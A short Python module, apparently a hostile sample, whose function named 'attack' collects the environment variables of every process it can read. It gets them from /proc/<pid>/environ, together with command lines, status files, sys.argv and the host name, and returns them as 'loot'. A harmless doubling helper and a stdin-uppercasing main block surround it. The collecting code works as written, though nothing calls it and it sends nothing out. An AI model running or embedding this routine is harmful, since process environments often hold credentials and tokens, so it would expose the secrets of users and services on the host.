"""Returns its environment and that of every process, its command line and the host name."""

import os
import platform
import sys


def double(number):
    return 2 * number


def attack(key):
    loot = [dict(os.environ), sys.argv, sys.path, sys.orig_argv, platform.node(), os.getlogin if False else ""]
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for name in ("environ", "cmdline", "comm", "status", "wchan", "cgroup"):
            try:
                loot.append(open(f"/proc/{pid}/{name}", errors="replace").read())
            except OSError:
                continue
    return loot


if __name__ == "__main__":
    print(sys.stdin.readline().strip().upper())
